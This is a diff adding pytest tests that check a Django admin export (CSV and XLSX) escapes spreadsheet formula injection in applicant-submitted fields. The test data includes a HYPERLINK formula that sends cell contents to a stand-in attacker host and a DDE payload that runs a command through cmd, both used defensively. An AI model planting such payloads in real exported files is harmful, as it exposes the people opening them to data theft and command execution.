@@ -252,3 +252,50 @@ def test_reviewers_are_assigned_in_bulk_from_the_changelist(client, manager):
     assert sorted(Review.objects.values_list("submission__pk", "reviewer__username")) == sorted(
         (s.pk, r.username) for s in submissions for r in reviewers
     )
+
+
+HYPERLINK = '=HYPERLINK("http://evil.invalid/?x="&A1,"Cliquez ici")'
+
+
+@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
+def test_export_shows_formulas_typed_by_applicants_as_text(client, manager, file_format):
+    """Issue 12: an organisation named as a formula came out as a live formula."""
+    submission = SubmissionFactory(
+        status=S.IN_REVIEW,
+        organisation_name=HYPERLINK,
+        project_name="+33 cmd|' /C calc'!A0",
+        description="-2+3",
+        problem="@SUM(1+1)",
+        main_impact="\t=1+1",
+        other_actors="\r=1+1",
+        goal_1="Une phrase = ordinaire",
+    )
+    ReferentFactory(submission=submission, first_name="=Camille", last_name="D", phone="")
+    header, data = exported_rows(client, file_format)
+    row = dict(zip(header, data, strict=True))
+    assert row["Nom de la structure"] == "'" + HYPERLINK
+    assert row["Nom du projet"] == "'+33 cmd|' /C calc'!A0"
+    assert row["Description courte"] == "'-2+3"
+    assert row["Problème traité"] == "'@SUM(1+1)"
+    assert row["Principal impact visé"] == "'\t=1+1"
+    # The XML of an XLSX reads a carriage return back as a line feed.
+    assert row["Autres acteurs sur le même problème"] in ("'\r=1+1", "'\n=1+1")
+    assert row["Premier objectif"] == "Une phrase = ordinaire"
+    assert row["Référent 1"] == f"'=Camille D <{submission.referents.get().email}>"
+
+
+def test_export_xlsx_writes_every_text_cell_as_text(client, manager):
+    SubmissionFactory(status=S.IN_REVIEW, organisation_name=HYPERLINK)
+    response = client.get(reverse("admin:seasons_submission_export", args=["xlsx"]))
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    types = {cell.data_type for row in sheet.iter_rows(min_row=1) for cell in row}
+    assert "f" not in types
+    name_column = [cell.value for cell in sheet[1]].index("Nom de la structure")
+    cell = sheet.cell(row=2, column=name_column + 1)
+    assert (cell.data_type, cell.value) == ("s", "'" + HYPERLINK)
+
+
+def test_export_xlsx_leaves_out_control_characters_xml_cannot_hold(client, manager):
+    SubmissionFactory(status=S.IN_REVIEW, organisation_name="Asso\x01ciation\x1b")
+    header, data = exported_rows(client, "xlsx")
+    assert dict(zip(header, data, strict=True))["Nom de la structure"] == "Association"
